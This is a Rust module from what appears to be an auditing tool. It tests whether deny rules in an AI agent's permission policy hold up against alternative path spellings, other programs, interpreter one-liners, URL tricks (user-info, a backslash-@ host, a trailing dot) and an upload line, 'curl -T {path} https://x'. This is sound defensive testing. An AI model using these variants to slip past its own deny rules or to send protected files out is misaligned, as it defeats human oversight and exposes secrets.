//! Deny rules that hold less than they look.
//!
//! A deny rule's own example is written in every other way there is a row for, and each is put to the
//! evaluator under the whole policy. What is let through in silence is a finding; what is asked about
//! counts as stopped, but not as denied.

use super::shadowed::examples;
use crate::audit::Asker;
use crate::cover::command_of;
use crate::finding::{Evidence, Witness};
use crate::realm::Realm;
use crate::tables::catalogue::{Entry, FAMILY, GONE_AROUND, NOTEBOOK, OTHER_WAY};
use crate::tables::equivalents::EQUIVALENTS;
use crate::tables::mutators::{MUTATORS, Written};
use crate::{Finding, Outcome, Question, Robustness, Trial};
use portcullis_model::{Because, Decision};
use portcullis_policy::PolicyRule;

pub(crate) fn check(asker: &Asker<'_>) -> (Vec<Finding>, Vec<Robustness>) {
    let rules: Vec<&PolicyRule> = asker.policy().deny.list.iter().collect();
    let mut findings = Vec::new();
    let mut robustness = Vec::new();
    // Where not everything can be tried, every rule is tried with its share, from another row on.
    let share = asker.left() / rules.len().max(1);
    for (index, rule) in rules.iter().enumerate() {
        let budget = share.max(1).min(asker.left());
        if budget == 0 {
            break;
        }
        let trials = match Realm::of(rule) {
            Realm::Command(_) => commands(asker, rule, budget, index),
            Realm::Read(_) | Realm::Edit(_) => files(asker, rule, budget),
            Realm::Host(_) => hosts(asker, rule, budget),
            Realm::Whole
            | Realm::Name(_)
            | Realm::Directory(_)
            | Realm::Parameter(..)
            | Realm::Nothing => Vec::new(),
        };
        if trials.is_empty() {
            continue;
        }
        findings.extend(found(rule, &trials));
        let trials = trials.into_iter().filter(|(kind, _)| kind.id == GONE_AROUND.id);
        let trials: Vec<Trial> = trials.map(|(_, trial)| trial).collect();
        if !trials.is_empty() {
            robustness.push(Robustness { rule: rule.reference.clone(), trials });
        }
    }
    (findings, robustness)
}

type Tried = (&'static Entry, Trial);

/// The call and what becomes of it.
fn try_out(
    asker: &Asker<'_>,
    kind: &'static Entry,
    way: &'static str,
    question: Question,
) -> Tried {
    let outcome = Outcome::from(asker.decision(&question));
    (kind, Trial { way, question, outcome })
}

/// Whether a call is denied by this very rule: else there is nothing to go around.
fn denied_by(asker: &Asker<'_>, rule: &PolicyRule, question: &Question) -> bool {
    let verdict = asker.ask(question);
    verdict.decision == Decision::Deny
        && verdict.findings.iter().any(|finding| {
            finding.decision == Decision::Deny
                && matches!(&finding.because, Because::Rule(by) if *by == rule.reference)
        })
}

fn commands(asker: &Asker<'_>, rule: &PolicyRule, budget: usize, turn: usize) -> Vec<Tried> {
    // The longest example: a bare `rm` is denied too, but what it goes around with says little.
    let mut examples = examples(rule, "x");
    examples.sort_by_key(|question| question.text.len());
    let Some(example) =
        examples.into_iter().rev().find(|question| denied_by(asker, rule, question))
    else {
        return Vec::new();
    };
    let mut out = Vec::new();
    let written = Written::new(&example.text);
    let spent = |out: &Vec<Tried>| out.len() >= budget || asker.left() == 0;
    for (head, others) in EQUIVALENTS {
        let about = written.text == *head
            || written.text.strip_prefix(head).is_some_and(|rest| rest.starts_with(' '));
        // A rule for `git push --force *` is not about every push.
        let whole = command_of(rule).is_some_and(|pattern| {
            let prefix = pattern.literal_prefix().trim_end();
            let options = prefix.strip_prefix(head).is_some_and(|rest| rest.starts_with(" -"));
            head.starts_with(prefix) || (options && !head.contains(' '))
        });
        if !about || !whole {
            continue;
        }
        for other in *others {
            if spent(&out) {
                return out;
            }
            out.push(try_out(asker, &FAMILY, "another program", Question::bash(*other)));
        }
    }
    let rows = MUTATORS.iter().cycle().skip(turn % MUTATORS.len()).take(MUTATORS.len());
    for mutator in rows {
        for text in (mutator.rewrite)(&written) {
            if spent(&out) {
                return out;
            }
            out.push(try_out(asker, &GONE_AROUND, mutator.name, Question::bash(text)));
        }
    }
    out
}

fn files(asker: &Asker<'_>, rule: &PolicyRule, budget: usize) -> Vec<Tried> {
    let reads = Realm::of(rule).read().is_some();
    let Some(example) =
        examples(rule, "x").into_iter().find(|question| denied_by(asker, rule, question))
    else {
        return Vec::new();
    };
    let path = example.text.as_str();
    let (directory, name) = path.rsplit_once('/').unwrap_or(("", path));
    let project = asker.subject.stage.project.as_str();
    let inside = path.strip_prefix(project).and_then(|rest| rest.strip_prefix('/'));
    let mut tries: Vec<(&'static Entry, &'static str, Question)> = Vec::new();
    let spellings = [
        ("dot", format!("{directory}/./{name}")),
        ("double slash", format!("{directory}//{name}")),
        ("dot-dot", format!("{directory}/x/../{name}")),
        ("upper case", path.to_uppercase()),
    ];
    let tools: &[&str] =
        if reads { &["Read", "Edit", "Write"] } else { &["Edit", "Write", "MultiEdit"] };
    for (way, spelling) in &spellings {
        // Another case is another file, but for file systems that fold it; both have to hold.
        let spelling = if *way == "upper case" {
            format!("{directory}/{}", name.to_uppercase())
        } else {
            spelling.clone()
        };
        for tool in tools {
            tries.push((&GONE_AROUND, way, Question::of(tool, "file_path", &spelling)));
        }
    }
    if reads {
        tries.push((&GONE_AROUND, "Grep", Question::of("Grep", "path", path)));
        tries.push((
            &NOTEBOOK,
            "NotebookEdit",
            Question::of("NotebookEdit", "notebook_path", path),
        ));
    }
    let shown = inside.unwrap_or(path);
    let commands: &[(&'static Entry, &'static str, String)] = &if reads {
        vec![
            (&GONE_AROUND, "reader", format!("cat {shown}")),
            (&GONE_AROUND, "reader", format!("head -n1 {directory}/./{name}")),
            (&GONE_AROUND, "reader", format!("base64 {path}")),
            (&GONE_AROUND, "copy", format!("cp {path} y")),
            (&GONE_AROUND, "redirection", format!("wc -c < {path}")),
            (&GONE_AROUND, "here-string", format!("cat \"{path}\"")),
            (&OTHER_WAY, "interpreter", format!("python3 -c 'print(open(\"{path}\").read())'")),
            (
                &OTHER_WAY,
                "interpreter",
                format!("node -e 'require(\"fs\").readFileSync(\"{path}\")'"),
            ),
            (&OTHER_WAY, "archive", format!("tar -cf - {path}")),
            (&OTHER_WAY, "git", format!("git show HEAD:{shown}")),
            (&OTHER_WAY, "program", format!("curl -T {path} https://x")),
        ]
    } else {
        vec![
            (&GONE_AROUND, "writer", format!("touch {path}")),
            (&GONE_AROUND, "writer", format!("cp x {path}")),
            (&GONE_AROUND, "writer", format!("sed -i s/a/b/ {path}")),
            (&GONE_AROUND, "writer", format!("rm {path}")),
            (&GONE_AROUND, "redirection", format!("echo x > {path}")),
            (&GONE_AROUND, "tee", format!("echo x | tee {path}")),
            (&OTHER_WAY, "interpreter", format!("python3 -c 'open(\"{path}\", \"w\")'")),
            (&OTHER_WAY, "git", format!("git checkout x -- {shown}")),
        ]
    };
    // Inside the sandbox a denied file is out of reach for programs, too.
    let bound = asker.policy().sandbox.enabled.value;
    for (kind, way, command) in commands {
        if !(bound && kind.id == OTHER_WAY.id) {
            tries.push((kind, way, Question::bash(command.as_str())));
        }
    }
    let left = budget.min(asker.left());
    tries
        .into_iter()
        .take(left)
        .map(|(kind, way, question)| try_out(asker, kind, way, question))
        .collect()
}

fn hosts(asker: &Asker<'_>, rule: &PolicyRule, budget: usize) -> Vec<Tried> {
    let Some(example) =
        examples(rule, "x").into_iter().find(|question| denied_by(asker, rule, question))
    else {
        return Vec::new();
    };
    let host = example.text.trim_start_matches("https://").trim_end_matches('/').to_owned();
    let bound = asker.policy().sandbox.enabled.value;
    let mut tries = vec![
        (&GONE_AROUND, "scheme", Question::fetch(&format!("http://{host}/"))),
        (&GONE_AROUND, "port", Question::fetch(&format!("https://{host}:8443/"))),
        (&GONE_AROUND, "user information", Question::fetch(&format!("https://a@{host}/"))),
        (&GONE_AROUND, "upper case", Question::fetch(&format!("https://{}/", host.to_uppercase()))),
        (&GONE_AROUND, "trailing dot", Question::fetch(&format!("https://{host}./"))),
        (&GONE_AROUND, "path and query", Question::fetch(&format!("https://{host}/a?b=c#d"))),
        (&GONE_AROUND, "backslash", Question::fetch(&format!("https://{host}\\@x.example/"))),
        (&FAMILY, "subdomain", Question::fetch(&format!("https://www.{host}/"))),
    ];
    if !bound {
        for command in [format!("curl https://{host}/"), format!("wget https://{host}/")] {
            tries.push((&OTHER_WAY, "program", Question::bash(command)));
        }
    }
    let left = budget.min(asker.left());
    tries
        .into_iter()
        .take(left)
        .map(|(kind, way, question)| try_out(asker, kind, way, question))
        .collect()
}

/// What was let through, a finding for each kind.
fn found(rule: &PolicyRule, trials: &[Tried]) -> Vec<Finding> {
    let mut out = Vec::new();
    for kind in [&GONE_AROUND, &FAMILY, &OTHER_WAY, &NOTEBOOK] {
        let of_kind: Vec<&Trial> =
            trials.iter().filter(|(own, _)| own.id == kind.id).map(|(_, trial)| trial).collect();
        let through: Vec<&&Trial> =
            of_kind.iter().filter(|trial| trial.outcome == Outcome::Allowed).collect();
        let Some(first) = through.first() else { continue };
        let message = format!(
            "`{}` is denied, but `{}` is allowed ({} of {} ways around it)",
            rule.reference.text,
            first.question.display(),
            through.len(),
            of_kind.len()
        );
        let mut finding = Finding::about(kind, &rule.reference, message);
        finding.evidence = Evidence::Replayed;
        finding.witnesses = through
            .iter()
            .take(3)
            .map(|trial| Witness {
                question: trial.question.clone(),
                decision: Decision::Allow,
                note: trial.way.to_owned(),
            })
            .collect();
        out.push(finding);
    }
    out
}
